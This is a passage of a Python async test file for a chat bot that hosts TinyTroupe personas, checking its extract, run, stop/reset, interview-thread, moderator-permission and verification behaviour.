    first = (await testbot.command("extract stance"))[0].text.rsplit("Saved to ", 1)[1].rstrip(".")
    second = (await testbot.command("extract willingness_to_pay"))[0].text.rsplit("Saved to ", 1)[1].rstrip(".")
    assert Path(first).name == "extract-launch-review.json" and Path(second).name == "extract-launch-review-2.json"
    assert "stance" in Path(first).read_text() and "willingness_to_pay" in Path(second).read_text()


async def test_adding_a_file_that_is_no_persona_says_which_files_are(testbot, tmp_path):
    await team(testbot, "general", "Priya Nair")
    testbot.app.settings.bot.file_dirs.append(tmp_path)
    toml = tmp_path / "pyproject.toml"
    toml.write_text('[project]\nname = "troupe"\n')
    text = await testbot.reply(f"persona add {toml}")
    assert "is not a persona file" in text and "TinyTroupe agent" in text and "not valid JSON" not in text
    assert [a.name for a in testbot.app.sessions.get("memory:general").world.agents] == ["Priya Nair"]


async def test_run_counts_what_the_channel_saw_and_says_why_nothing_happened(testbot):
    await team(testbot, "general", "Priya Nair", "Tomasz Kowalski")
    await testbot.command("policy everyone --exchanges 0")
    await testbot.say("Should we ship on Friday?")  # both answer; each then has the other's words to react to
    session = testbot.app.sessions.get("memory:general")
    before = len(session.world.events)
    sent = await testbot.command("run 2")
    (reply,) = [s.text for s in sent if s.kind in ("private", "reply")]
    posts = [s for s in sent if s.kind == "post"]
    thoughts = [e for e in session.world.events[before:] if e.type == "THINK"]
    assert reply == f"Ran 2 step(s): {len(posts)} message(s) posted, {len(thoughts)} thought(s).", reply

    # Nothing new to react to: the reply says so instead of "0 persona action(s)".
    await testbot.reply("run 10")
    quiet = await testbot.reply("run 2")
    assert quiet.startswith("Ran 2 step(s): nothing happened: ") and "no persona had anything new to react to" in quiet, quiet

    # Under `addressed`, a message that names nobody gets no answer, and the reply says why.
    await testbot.command("policy addressed --exchanges 0")
    await testbot.say("Anyone around?")
    why = await testbot.reply("run 1")
    assert "nothing happened" in why and "only personas a message names answer" in why, why


async def test_stop_and_reset_ask_first_and_a_stopped_world_can_be_reopened(testbot):
    await team(testbot, "general", "Priya Nair")
    await testbot.say("Should we ship on Friday?")
    session = testbot.app.sessions.get("memory:general")
    said = len(session.world.events)

    asked = await testbot.reply("reset")
    assert asked.startswith("`reset confirm` forgets the conversation of “Launch review”") and "1 persona(s)" in asked
    assert len(testbot.app.sessions.get("memory:general").world.events) == said, "nothing was forgotten yet"
    asked = await testbot.reply("stop")
    assert asked.startswith("`stop confirm` ends the world “Launch review”") and "start --reopen" in asked
    assert testbot.app.sessions.get("memory:general") is not None, "still running"

    stopped = (await testbot.command("stop confirm"))[0].text
    assert "Stopped the world “Launch review”" in stopped and "`start --reopen` brings it back" in stopped
    assert testbot.app.sessions.get("memory:general") is None

    reopened = (await testbot.command("start --reopen"))[0].text
    assert reopened.startswith("Reopened the world “Launch review” with Priya Nair")
    session = testbot.app.sessions.get("memory:general")
    assert len(session.world.events) == said and session.world.get("Priya Nair").episodic.count > 0
    # It is the channel's world again: it hears and answers, and survives a restart as active.
    sent = await testbot.say("And on Monday?")
    assert [s.identity for s in sent if s.kind == "post"] == ["Priya Nair"]
    assert "There is no" not in await testbot.reply("status")

    again = (await testbot.command("start --reopen"))[0].text
    assert "already has the world “Launch review”" in again


# -- interviews -----------------------------------------------------------------------------------


async def test_an_interview_thread_talks_with_one_persona_and_survives_a_restart(tmp_path):
    bot = await start_bot(demo_settings(tmp_path))
    try:
        await team(bot)
        sent = await bot.command("interview priya")
        (opened,) = [s for s in sent if s.kind == "post"]
        assert opened.by_bot and opened.thread and "Interview with Priya Nair" in opened.text
        assert [s.text for s in sent if s.kind == "private"] == [
            "Opened the thread “Interview with Priya Nair” to talk with Priya Nair."]
        answered = await bot.say("What worries you most about the launch?", thread=opened.thread)
        assert [(s.kind, s.identity, s.thread) for s in answered] == [("post", "Priya Nair", opened.thread)], \
            "only she answers, in the thread, and the question gets no notice of its own"
        guest = await bot.say("Priya, what is your budget?", thread=opened.thread, user="ana", user_is_moderator=False)
        assert [s.text for s in guest] == [
            "Only moderators can question Priya Nair in this interview thread, so your message was not passed on. "
            "Ask a moderator, or have an admin add your user id (`memory:ana`) to bot.moderator_user_ids (or one of "
            "your roles to bot.moderator_roles) in troupe.yaml."], "what a guest wrote there was no command"
    finally:
        await bot.app.stop()
    again = await start_bot(demo_settings(tmp_path))
    try:
        answered = await again.say("And after the restart?", thread=opened.thread)
        assert [(s.identity, s.thread) for s in answered if s.kind == "post"] == [("Priya Nair", opened.thread)]
    finally:
        await again.app.stop()


async def test_a_reply_in_a_posts_thread_is_answered_in_that_thread(testbot):
    """Someone answers Priya in the thread of her post: the personas answer there, not in the channel,
    until someone writes in the channel again."""
    await team(testbot, "general", "Priya Nair")
    (post,) = [s for s in await testbot.say("Priya, should we ship on Friday?") if s.kind == "post"]
    assert post.thread is None
    answered = await testbot.say("Priya, why not Thursday?", thread=post.message_id, user="ana", user_is_moderator=False)
    assert [(s.identity, s.thread) for s in answered if s.kind == "post"] == [("Priya Nair", post.message_id)]
    again = await testbot.say("Back to the plan: who writes the notes?")
    assert [(s.identity, s.thread) for s in again if s.kind == "post"] == [("Priya Nair", None)]


async def test_an_interview_needs_a_persona_here_and_a_platform_with_threads(testbot):
    await team(testbot, "general", "Priya Nair")
    refused = await testbot.reply("interview Nobody")
    assert "There is no persona called Nobody here; `persona list` shows them." in refused
    testbot.adapter.threads = False
    explained = await testbot.reply("interview Priya")
    assert "Interviews are held in threads, and there are none here: `ask Priya Nair QUESTION`" in explained
    assert not [s for s in testbot.adapter.sent if s.thread]


async def test_a_message_heard_while_an_answer_is_being_posted_is_answered_too(tmp_path):
    """The platform's pace holds an answer back; a message that arrives meanwhile gets its own answer
    rather than being counted as answered by the step that was still posting."""
    bot = await start_bot(demo_settings(tmp_path, default_exchanges=0))
    try:
        await team(bot, "general", "Priya Nair")
        await bot.say("Priya, first: what do you think of the plan?")
        bot.adapter.post_interval_s = 1.0
        session = bot.app.sessions.get("memory:general")

        def turns() -> int:
            return sum(1 for e in session.world.events if e.kind is EventKind.ACTION and e.type == "TALK")

        bot.adapter.push_message("Priya, second: and the budget?", user="ana", user_is_moderator=False)
        await until(lambda: turns() == 2, 5)
        assert len(bot.adapter.posts()) == 1, "the second answer waits for the platform's pace"
        bot.adapter.push_message("Priya, third: and the date?", user="ana", user_is_moderator=False)
        await until(lambda: turns() == 3, 10)
        await bot.app.wait_idle()
        assert [p.identity for p in bot.adapter.posts()] == ["Priya Nair"] * 3
    finally:
        await bot.app.stop()


async def test_each_post_is_verified_with_its_personas_own_spec(tmp_path):
    """The verification context carries the persona's spec as the persona holds it (the same object
    every time): the verification process recognises a spec it has by that, without encoding it."""
    seen: list[tuple[str, dict]] = []

    class Noting(Verifier):
        async def verify(self, text: str, context: VerificationContext) -> Verdict:
            seen.append((context.persona, context.persona_spec))
            return Verdict(action=VerdictAction.PASS, text=text)

    bot = await start_bot(demo_settings(tmp_path), verifier=Noting())
    try:
        await team(bot, "general", "Priya Nair", "Henrik Lindqvist")
        await bot.say("Coffee or tea?")
        await bot.say("And for the offsite?")
        world = bot.app.sessions.get("memory:general").world
        specs = {agent.name: agent.persona_data for agent in world.agents}
        assert len([name for name, _ in seen if name]) >= 4
        assert all(spec is specs[name] for name, spec in seen if name), "a copy, which the process must encode"
        assert specs["Priya Nair"]["name"] == "Priya Nair"
    finally:
        await bot.app.stop()
